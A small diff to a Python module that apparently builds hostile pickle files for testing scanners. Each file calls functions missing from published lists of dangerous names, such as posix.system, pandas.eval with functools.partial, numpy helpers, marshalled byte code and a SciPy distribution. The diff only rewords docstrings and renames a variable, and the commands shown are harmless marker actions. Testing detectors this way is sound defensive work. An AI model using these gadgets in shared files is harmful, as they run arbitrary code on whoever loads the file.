@@ -1,4 +1,4 @@
-"""Calls of functions that lists of dangerous names do not have, or did not have when they were published."""
+"""Calls of functions that are or were missing from published lists of dangerous names."""
 
 from __future__ import annotations
 
@@ -15,7 +15,7 @@ SYSTEM = name("posix", "system")
 
 
 def gadget_files(marker: str) -> Iterator[HostileFile]:
-    """One file for each way."""
+    """Yield one file per function."""
     command, code = f"touch {marker}", f"__import__('os').mkdir({marker!r})"
     for label, operations in (
         *_executing(command, code),
@@ -55,8 +55,8 @@ def _executing(command: str, code: str) -> Iterator[tuple[str, bytes]]:
     )
     yield "numpy.testing", call(name("numpy.testing._private.utils", "runstring"), text(code), nothing)
     yield "numpy.f2py", call(name("numpy.f2py.crackfortran", "_eval_length"), text(code), nothing)
-    waiting = call(name("functools", "partial"), SYSTEM, text(command))
-    yield "pandas.eval", call(name("pandas", "eval"), *map(text, ("f()", "pandas", "python")), table(f=waiting))
+    partial_call = call(name("functools", "partial"), SYSTEM, text(command))
+    yield "pandas.eval", call(name("pandas", "eval"), *map(text, ("f()", "pandas", "python")), table(f=partial_call))
     yield "marshal and types", function + b")R"
     yield (
         "typing",
@@ -189,13 +189,13 @@ class _Call:
 
 
 def _code(code: str) -> bytes:
-    """Byte code of the running Python."""
+    """Marshalled byte code for the running Python."""
     assert sys.version_info >= (3, 11)
     return marshal.dumps(compile(code, "", "eval"))
 
 
 def _distribution(code: str) -> bytes:
-    """A distribution of scipy whose state holds the text of its own methods."""
+    """A SciPy distribution whose state contains source code of its methods."""
     template = (
         f"def _parse_args(self): pass\n{code}\n"
         + "def _parse_args_rvs(self): pass\ndef _parse_args_stats(self): pass\n"
